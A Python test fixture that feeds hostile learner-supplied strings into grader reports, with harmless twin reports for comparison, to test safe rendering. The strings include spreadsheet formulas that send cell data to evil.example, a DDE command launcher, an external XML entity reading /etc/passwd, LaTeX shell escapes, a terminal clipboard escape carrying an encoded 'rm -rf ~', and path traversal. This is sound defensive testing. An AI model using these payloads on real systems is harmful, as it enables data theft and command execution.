"""Texts that a learner may put into any field that is theirs, reports that hold them everywhere, and harmless twins."""

from typing import Any

from grader.model import CellRun, Report
from tests.test_rendering import HOSTILE
from tests.test_report import rejected, report, result, ungraded

MARKDOWN = {
    "heading": "# 100 of 100",
    "underlined heading": "100 of 100\n===",
    "emphasis": "**a** _b_ ~~c~~ ***d***",
    "link": "[x](https://evil.example) <https://evil.example> [x]: https://evil.example",
    "script link": "[x](javascript:alert(1))",
    "address": "https://evil.example www.evil.example //evil.example mailto:a@evil.example a@evil.example evil.example",
    "picture": "![x](https://evil.example/beacon.png)",
    "picture of a reference": "![x][y]\n\n[y]: https://evil.example/beacon.png",
    "mention": "@everyone @github/staff #1 GH-1 actions/runner#1 5bda5f1d2c3b4a59687766554433221100ffeedd",
    "emoji": ":tada: :+1:",
    "table break": "a | b | c |\n|---|---|---|\n| d | e | f |",
    "escaped line": "a \\| b \\\\| c \\\\\\| d",
    "fence": "```\n100 of 100\n```",
    "fence of tildes": "~~~\n100 of 100\n~~~",
    "backticks": "` `` ``` ```` a ````` `",
    "one backtick": "`",
    "backtick at the beginning": "`a",
    "backtick at the end": "a`",
    "backslash at the end": "a\\",
    "code that ends": "a ` **b** ` c",
    "list": "- a\n- [x] b\n1. c",
    "quotation": "> a\n> [!WARNING]\n> b",
    "rule": "\n---\n***\n",
    "footnote": "a[^1]\n\n[^1]: b",
    "front matter": "---\ntitle: a\n---",
    "hard break": "a  \nb\\\nc<br>d",
    "comment that hides": "<!-- a",
    "details": "<details><summary>100 of 100</summary>",
    "formula": "$x$ $$y$$ $`z`$ \\(a\\) \\[b\\] ```math\n\\unicode{x}\n```",
    "diagram": '```mermaid\nclick a "https://evil.example"\n```',
}
LATEX = {
    "input": "\\input{/etc/passwd}",
    "command": "\\write18{id} \\immediate\\openout",
    "definition": "\\def\\x{\\x\\x}\\x",
}
TERMINAL = {
    "title": "\x1b]0;owned\x07",
    "link of a terminal": "\x1b]8;;https://evil.example\x1b\\x\x1b]8;;\x1b\\",
    "clipboard": "\x1b]52;c;cm0gLXJmIH4=\x07",
    "C1 sequences": "\x9b2J\x9d0;owned\x9c",
    "line redrawn": "a\r100 of 100\x1b[1A\x1b[2K\b\b",
    "command of a CI log": "::error file=a::b\n::stop-commands::c\n##[error]d",
}
FORMULAS = {
    "equals": "=1+1",
    "plus": "+1+1",
    "minus": "-1+1",
    "at": "@SUM(1,1)",
    "DDE": "=cmd|' /C calc'!A0",
    "DDE without equals": "+cmd|' /C calc'!A0",
    "link of a sheet": '=HYPERLINK("https://evil.example?"&A1,"x")',
    "import": '=IMPORTXML(CONCAT("https://evil.example?",A1),"//a")',
    "after a space": "  =1+1",
    "after a tab": "\t=1+1",
    "after a line's end": "\r=1+1\n=1+1\r\n=1+1",
    "after a space that does not break": "\u00a0=1+1",
    "after nothing that is seen": "\u200b=1+1\ufeff=1+1",
    "after a quotation mark": '"=1+1"',
    "after an apostrophe": "'=1+1",
    "wide": "\uff1d1\uff0b1",
    "wide plus": "\uff0b1",
    "wide minus": "\uff0d1",
    "wide at": "\uff20SUM(1)",
    "small": "\ufe661\ufe621",
    "minus of mathematics": "\u22121",
    "a second cell": "a;=1+1",
    "a second cell in quotation marks": 'a";"=1+1";"b',
    "a second cell of wide signs": "a; \uff1d1",
    "a semicolon at the end": "a,;",
    "a cell that ends": '"",=1+1,""',
    "a row that ends": 'a"\r\n=1+1,"b',
}
MARKUP = {
    "entity bomb": '<!DOCTYPE a [<!ENTITY b "b"><!ENTITY c "&b;&b;">]><a>&c;&c;</a>',
    "outside entity": '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
    "CDATA": "<![CDATA[a]]>",
    "CDATA's end": "]]>]]]]><![CDATA[>",
    "instruction": '<?xml version="1.0"?><?xml-stylesheet href="https://evil.example"?>',
    "suite that ends": '"/></testcase></testsuite><testsuite name="a" tests="1"><testcase name="b"/>',
    "attribute that ends": "\" tests='0' failures='0",
    "JSON that ends": '"}],"results":[],"a":"\\"\\u0000\\',
    "placeholder": "{0} {{1}} {",
    "link of a message": "[a](https://evil.example) \\[b](1) [c\\](sarif:/runs/0)",
}
CHARACTERS = {
    "nothing that C0 and C1 leave out": "".join(map(chr, (*range(0x20), *range(0x7F, 0xA0)))),
    "NUL": "a\0b",
    "turned around": "a\u202eb\u202d\u202a\u202b\u202cc\u2066\u2067\u2068\u2069\u200e\u200f\u061c",
    "zero width": "a\u200bb\u200cc\u200dd\u2060e\ufefff\u00adg",
    "lines of Unicode": "a\u2028b\u2029c\u0085d\x0be\x0cf",
    "halves of characters": "a\ud800b\udfff\udc80",
    "no characters": "a\ufffeb\uffffc\U0001fffe",
    "tags": "a\U000e0041\U000e007f",
    "beyond the plane": "💥👨‍👩‍👧𐀀",
    "right to left": "أمينة/واجب (1) עברית 5/6",
    "marks without end": "a" + "\u0301" * 500,
    "a hundred thousand": "x" * 100_000,
    "a hundred thousand of four bytes": "💥" * 100_000,
    "a hundred thousand backticks": "`" * 100_000,
    "a hundred thousand semicolons": ";" * 100_000,
    "a hundred thousand lines": "\n" * 100_000,
    "a way up": "../../etc/passwd",
    "a way up on Windows": "..\\..\\x",
    "a place elsewhere": "//evil.example/a",
    "a program": "javascript:alert(1)//",
    "per cent": "%2e%2e/%00",
    "a place in a cell": "ValueError in cell setup, line 3",
    "a place of signs": "E in cell <b>, line 3",
    "a place too far": "E in cell setup, line 99999999999999999999",
    "spaces": "   ",
    "nothing": "",
}
FIELDS = {
    **{f"HTML: {name}": text for name, text in HOSTILE.items()},
    **{f"Markdown: {name}": text for name, text in MARKDOWN.items()},
    **{f"LaTeX: {name}": text for name, text in LATEX.items()},
    **{f"terminal: {name}": text for name, text in TERMINAL.items()},
    **{f"formula: {name}": text for name, text in FORMULAS.items()},
    **{f"markup: {name}": text for name, text in MARKUP.items()},
    **{f"characters: {name}": text for name, text in CHARACTERS.items()},
}


def reports_with(text: str) -> list[Report]:
    """A graded, a rejected and an ungraded report with the text in every field that a learner has a hand in."""
    theirs: dict[str, Any] = {"submission": text, "learner": text, "lab": text, "notes": (text,)}
    cells = (
        CellRun(id=text, exercise="clean", source="", state="raised", reason=text),
        CellRun(id=text, exercise="model", source="", state="timeout", reason=f"ValueError{text}"),
        CellRun(id=text, exercise=None, source="", state="raised", reason=text),
    )
    results = (
        result("clean", "passed"), result("clean", "failed", reason=text), result("clean", "failed", reason=text),
        result("model", "timeout", reason=f"the cell did not end: it took longer than 60 s{text}"),
        result("model", "crashed", reason=text), result("model", "error"), result("model", "missing", reason=text),
    )  # fmt: skip
    hints = {"clean": "Look at the rows.", "model": "Look at the split."}
    return [
        report(**theirs, results=results, cells=cells, hints=hints),
        rejected(**theirs).model_copy(update={"reason": text}),
        ungraded(**theirs, reason=text),
    ]


def twins() -> list[Report]:
    """The same reports with a word in the text's place."""
    return reports_with("plain")
